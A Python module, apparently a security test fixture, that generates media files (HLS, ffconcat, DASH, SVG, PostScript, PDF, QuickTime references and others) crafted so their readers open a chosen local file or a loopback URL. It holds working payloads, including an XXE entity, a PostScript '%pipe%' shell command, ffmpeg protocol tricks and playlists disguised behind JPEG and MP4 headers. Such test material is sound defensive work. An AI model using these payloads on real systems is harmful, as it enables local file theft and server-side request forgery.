"""Media bytes that name a file or an address, in every format known to us whose reader might follow it."""

from __future__ import annotations

import struct
from collections.abc import Mapping


def _atom(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", 8 + len(data)) + kind + data


def _reference_movie(url: str) -> bytes:
    """A QuickTime file that says: the film is over there."""
    where = url.encode() + b"\0"
    reference = _atom(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(where)) + where)
    return _atom(b"ftyp", b"qt  \0\0\0\0qt  ") + _atom(b"moov", _atom(b"rmra", _atom(b"rmda", reference)))


def _hls(url: str) -> str:
    return (
        f'#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n'
        f'#EXT-X-MAP:URI="{url}"\n#EXTINF:9,\n{url}\n#EXT-X-ENDLIST\n'
    )


def _dash(url: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
        f'<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="9"><BaseURL>{url}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>"
    )


def _svg(url: str) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
        f'<image xlink:href="{url}" width="9" height="9"/><text>&x;</text></svg>'
    )


def _sdp(port: int) -> str:
    return (
        "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    )


def _imf(url: str) -> str:
    return (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        f"<Id>urn:uuid:0</Id><SegmentList><Segment><Path>{url}</Path></Segment></SegmentList></CompositionPlaylist>"
    )


def payloads(path: str, port: int) -> Mapping[str, bytes]:
    """Each by its name. They name the file `path`, and addresses at `port` of loopback."""
    http, name = f"http://127.0.0.1:{port}/a.mp4", path.rpartition("/")[2]
    texts = {
        "ffconcat_file": f"ffconcat version 1.0\nfile '{path}'\nduration 1\n",
        "ffconcat_relative": f"ffconcat version 1.0\nfile '{name}'\n",
        "ffconcat_file_url": f"ffconcat version 1.0\nfile 'file:{path}'\n",
        "ffconcat_http": f"ffconcat version 1.0\nfile '{http}'\n",
        "ffconcat_concat": f"ffconcat version 1.0\nfile 'concat:{path}|{path}'\n",
        "ffconcat_subfile": f"ffconcat version 1.0\nfile 'subfile,,start,0,end,9,,:{path}'\n",
        "hls_http": _hls(http),
        "hls_file": _hls(f"file://{path}"),
        "hls_path": _hls(path),
        "hls_concat": _hls(f"concat:{http}|file:{path}"),
        "hls_crypto": _hls(f"crypto+http://127.0.0.1:{port}/a.ts"),
        "dash_http": _dash(http),
        "dash_file": _dash(f"file://{path}"),
        "imf_file": _imf(path),
        "sdp": _sdp(port),
        "sdp_bare": "v=0\n" + f"m=video {port} RTP/AVP 96\nc=IN IP4 127.0.0.1\n",
        "asx": f'<asx version="3.0"><entry><ref href="{http}"/></entry></asx>',
        "pls": f"[playlist]\nFile1={http}\nFile2={path}\nNumberOfEntries=2\n",
        "rtsp_redirect": f"rtsptext\nrtsp://127.0.0.1:{port}/a\n",
        "internet_shortcut": f"[InternetShortcut]\nURL={http}\n",
        "bare_path": path,
        "bare_url": http,
        "lavfi_graph": f"movie={path}",
        "vapoursynth": f"import os\nopen({path!r}).read()\n",
        "avisynth": f'FFVideoSource("{path}")\n',
        "svg_http": _svg(http),
        "svg_file": _svg(f"file://{path}"),
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({path}) (r) file closefile\n",
        "postscript": f"%!PS\n(%pipe%cat {path}) (r) file closefile showpage\n",
        "pdf": f"%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI({http})>>>>endobj\n",
        "mvg": f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 '{http}'\npop graphic-context\n",
        "msl": f'<?xml version="1.0"?><image><read filename="{path}"/></image>',
        "fits": f"SIMPLE  = T / {path}",
    }
    return {name: text.encode() for name, text in texts.items()} | {
        "quicktime_file": _reference_movie(f"file://{path}"),
        "quicktime_http": _reference_movie(http),
        "text_behind_a_jpeg_mark": b"\xff\xd8\xff\xe0" + _hls(http).encode(),
        "text_behind_an_mp4_mark": _atom(b"ftyp", b"isom\0\0\0\0isom") + _hls(http).encode(),
    }
